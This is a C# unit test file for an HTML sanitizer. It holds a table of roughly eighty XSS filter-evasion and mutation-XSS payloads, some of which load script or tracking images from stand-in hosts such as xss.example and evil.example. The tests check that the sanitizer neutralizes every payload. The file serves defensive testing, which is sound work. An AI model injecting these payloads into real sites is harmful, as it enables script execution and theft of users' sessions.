namespace ParPortal.Tests.RichText;

/// <summary>Attacker inputs (OWASP filter-evasion patterns, mutation XSS, namespace confusion) must come out harmless.</summary>
public sealed class HtmlSanitizerMaliciousTests
{
    public static TheoryData<string> MaliciousInputs =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
        "<img src=x onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<img src=/ onerror=\"alert(1)\"/>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<img srcset=\"javascript:alert(1) 1x, /media/a.jpg 2x\" src=\"/media/a.jpg\" alt=\"a\">",
        "<img src=\"//evil.example/track.gif\">",
        "<img src=\"/\\evil.example/track.gif\">",
        "<body onload=alert(1)>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "<p style=\"width: expression(alert(1))\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"text-align:center;background-image:url('javascript:alert(1)')\">x</p>",
        "<span style=\"te\\78t-align: center; behavior: url(x.htc)\">x</span>",
        "<p style=\"-moz-binding:url(http://evil.example/xss.xml#xss)\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"https://evil.example/embed\"></iframe>",
        "<iframe src=\"http://www.youtube.com/embed/x\"></iframe>",
        "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
        "<iframe src=\"https://user@www.youtube.com/embed/x\" onload=alert(1) srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=\"evil.class\"></applet>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input type=image src=x onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
        "<a href=\"/x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<div id=\"getElementById\"><a id=\"location\" name=\"location\" href=\"javascript:alert(1)\">x</a></div>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<a href=\"https://example.com\" target=\"_blank\">x</a><a href=\"javas\u200Bcript:alert(1)\">y</a>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<a href=\"javascript:alert(1)\"><a href=\"/ok\">nested</a></a>",
        "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<img src=\"/media/a.jpg\" alt=\"a\" style=\"display:none\" onload=\"alert(1)\" lang=\"en\" data-x=\"1\">",
    ];

    [Theory]
    [MemberData(nameof(MaliciousInputs))]
    public void Sanitize_RemovesEverythingThatCanRunScript_WhenInputIsMalicious(string input)
    {
        var sanitizer = SanitizedHtml.Create("www.youtube.com");

        var output = sanitizer.Sanitize(input);

        SanitizedHtml.AssertHarmless(output);
        SanitizedHtml.AssertStable(sanitizer, output);
    }

    [Fact]
    public void Sanitize_CountsAtLeastSixtyAttacks_WhenTheTableIsLoaded()
    {
        Assert.True(MaliciousInputs.Count >= 60, $"only {MaliciousInputs.Count} malicious inputs");
    }

    [Fact]
    public void Sanitize_KeepsSandboxedIframe_WhenHostIsAllowListed()
    {
        var sanitizer = SanitizedHtml.Create("www.youtube.com");

        var body = SanitizedHtml.Parse(sanitizer.Sanitize(
            "<iframe src=\"https://www.youtube.com/embed/abc\" onload=\"alert(1)\" width=560 height=315 title=\"Video\"></iframe>"));

        var iframe = Assert.Single(body.QuerySelectorAll("iframe"));
        Assert.Equal("https://www.youtube.com/embed/abc", iframe.GetAttribute("src"));
        Assert.Contains("allow-scripts", iframe.GetAttribute("sandbox"));
        Assert.DoesNotContain("allow-top-navigation", iframe.GetAttribute("sandbox"));
        Assert.Null(iframe.GetAttribute("onload"));
    }

    [Fact]
    public void Sanitize_AddsNoopener_WhenLinkOpensNewTab()
    {
        var sanitizer = SanitizedHtml.Create();

        var body = SanitizedHtml.Parse(sanitizer.Sanitize("<a href=\"https://dichvucong.gov.vn\" target=\"_BLANK\" rel=\"opener\">DVC</a>"));

        var link = Assert.Single(body.QuerySelectorAll("a"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer", link.GetAttribute("rel"));
    }
}
